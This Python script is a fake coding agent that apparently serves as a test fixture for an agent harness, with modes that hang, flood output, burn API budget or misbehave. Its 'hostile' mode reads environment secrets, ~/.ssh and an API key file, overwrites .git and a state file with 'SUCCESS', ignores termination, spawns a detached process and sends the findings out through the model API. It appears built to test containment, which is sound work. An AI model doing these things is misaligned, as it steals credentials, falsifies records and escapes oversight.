#!/usr/bin/env python3
"""An agent that speaks ACP, or takes its prompt from a file, and does what its first argument says."""
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

MODE, REAL = sys.argv[1], sys.argv[2]
PART = "src/part-1.txt"
SERVERS = []
SHOP_TEST = os.environ.get("SHOP_TEST", "")


def ask(text):
    body = {"model": os.environ["TEAM_LOOP_MODEL"], "messages": [{"role": "user", "content": text}]}
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + "/chat/completions",
        json.dumps(body).encode(),
        {"Content-Type": "application/json", "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def rename():
    with open(PART) as file:
        text = file.read()
    with open(PART, "w") as file:
        file.write(text.replace("old_name", "new_name"))


def tried(action):
    try:
        return str(action())
    except BaseException as error:  # whatever holds it back is what the test wants to know
        return "refused: " + type(error).__name__


def hostile():
    home = os.environ["HOME"]
    host, port = REAL.split(":")
    found = {
        "environment": dict(os.environ),
        "ssh": tried(lambda: os.listdir(home + "/.ssh")),
        "key": tried(lambda: open(home + "/.config/team-loop/config.json").read()),
        "endpoint": tried(lambda: socket.create_connection((host, int(port)), 3)),
        "commit": tried(lambda: subprocess.run(
            ["git", "commit", "--allow-empty", "-qm", "mine"], capture_output=True, check=True)),
        "history": tried(lambda: open(".git", "w").write("gitdir: /tmp")),
        "records": tried(lambda: open(".team-loop/STATE.md", "w").write("SUCCESS")),
    }
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    subprocess.Popen(["sh", "-c", "trap '' TERM HUP INT; sleep 987"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("sk-live-" + "0123456789abcdef" * 2, file=sys.stderr)
    ask("FOUND " + json.dumps(found))


class Tools:
    """The tools that the session offers, called as an agent's client does."""

    def __init__(self, server):
        self.child = subprocess.Popen([server["command"]] + server["args"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.number = 0
        self.request("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "a", "version": "1"}})

    def request(self, method, params):
        self.number += 1
        message = {"jsonrpc": "2.0", "id": self.number, "method": method, "params": params}
        self.child.stdin.write((json.dumps(message) + "\n").encode())
        self.child.stdin.flush()
        return json.loads(self.child.stdout.readline())["result"]

    def names(self):
        return [tool["name"] for tool in self.request("tools/list", {})["tools"]]

    def call(self, name, **arguments):
        return self.request("tools/call", {"name": name, "arguments": arguments})["content"][0]["text"]


def measuring(prompt):
    tools = Tools(SERVERS[0])
    told = {"names": tools.names(), "same": tools.call("context") in prompt, "lookup": tools.call("lookup", symbol="f")}
    for path in ("setup.cfg", "src/extra.txt"):
        with open(path, "w") as file:
            file.write("old_name\n")
    told["before"] = tools.call("run_metric")
    told["test"] = tools.call("measure", tests=["verify.sh"])
    os.remove("setup.cfg")
    os.remove("src/extra.txt")
    rename()
    told["after"] = tools.call("run_metric")
    told["stranger"] = subprocess.run(
        [SERVERS[0]["command"]] + SERVERS[0]["args"][:-1] + ["MCP mine"], capture_output=True,
        input=b'{"jsonrpc": "2.0", "id": 1, "method": "ping"}\n').stdout.decode()
    told["odd"] = tools.call("measure", test="verify.sh")
    ask("TOLD " + json.dumps(told))


def work(prompt, turn):
    if MODE == "hang":
        time.sleep(600)
    if MODE == "trial":
        if ask("trial") == 200:
            with open("hello.txt", "w") as file:
                file.write("hello\n")
            subprocess.run(["sh", "check.sh"], check=True)
        return
    if MODE.startswith("fails"):
        if MODE == "fails-late" and turn == 1:
            rename()
        print("begun", flush=True)
        sys.exit("FATAL: my settings are missing, set FOO")
    if "K2.1" not in prompt and turn == 1:
        return
    if MODE == "flood":
        for _ in range(64):
            sys.stdout.write("x" * (1 << 20))
            sys.stderr.write("{}\n" * (1 << 18))
        sys.stdout.write("\n")
        sys.stdout.flush()
    if MODE == "old-tests" and turn == 1:
        with open("tests/test_smoke.py", "w") as file:
            file.write("def test_smoke():\n    pass\n")
    if MODE in ("shop", "old-tests"):
        with open("tests/test_shop.py", "w") as file:
            file.write(SHOP_TEST)
        ask("turn %d: %s" % (turn, prompt))
        return
    if MODE == "measure":
        return measuring(prompt)
    if MODE == "hostile":
        hostile()
    if MODE == "nothing":
        return
    if MODE.startswith("stray") and (turn == 1 or MODE == "stray-again"):
        with open("setup.cfg", "w") as file:
            file.write("[tool]\n")
    if MODE in ("spend", "spend-good", "spend-idly"):
        if MODE == "spend":
            with open(PART, "a") as file:
                file.write("begun\n")
        if MODE == "spend-good":
            rename()
        while ask("x" * 8000) == 200:
            pass
        return
    tool = ", the tool runs" if os.access("tool.sh", os.X_OK) else ""
    if ask("turn %d%s" % (turn, tool)) != 200:
        return
    if MODE in ("two-turns", "stray-again") and turn == 1:
        with open(PART, "a") as file:
            file.write("not yet\n")
        return
    rename()


def send(message):
    sys.stdout.write(json.dumps(dict(message, jsonrpc="2.0")) + "\n")
    sys.stdout.flush()


def serve():
    if MODE == "dies":
        sys.exit(3)
    turns = 0
    for line in sys.stdin:
        message = json.loads(line)
        method, number = message.get("method"), message.get("id")
        if method == "initialize":
            send({"id": number, "result": {"protocolVersion": 1}})
        elif method == "session/new":
            SERVERS.extend(message["params"]["mcpServers"])
            send({"id": number, "result": {"sessionId": "s1"}})
        elif method == "session/prompt":
            turns += 1
            options = [{"optionId": "no", "kind": "reject_once"}, {"optionId": "yes", "kind": "allow_once"}]
            send({"id": 900 + turns, "method": "session/request_permission", "params": {"sessionId": "s1", "options": options}})
            granted = json.loads(sys.stdin.readline())
            if granted["result"]["outcome"].get("optionId") == "yes":
                work(message["params"]["prompt"][0]["text"], turns)
            send({"method": "session/update", "params": {"sessionId": "s1", "update": {
                "sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": "did it"}}}})
            send({"id": number, "result": {"stopReason": "end_turn"}})


if __name__ == "__main__":
    if len(sys.argv) > 3:
        with open(sys.argv[3]) as file:
            work(file.read(), 1)
    else:
        serve()
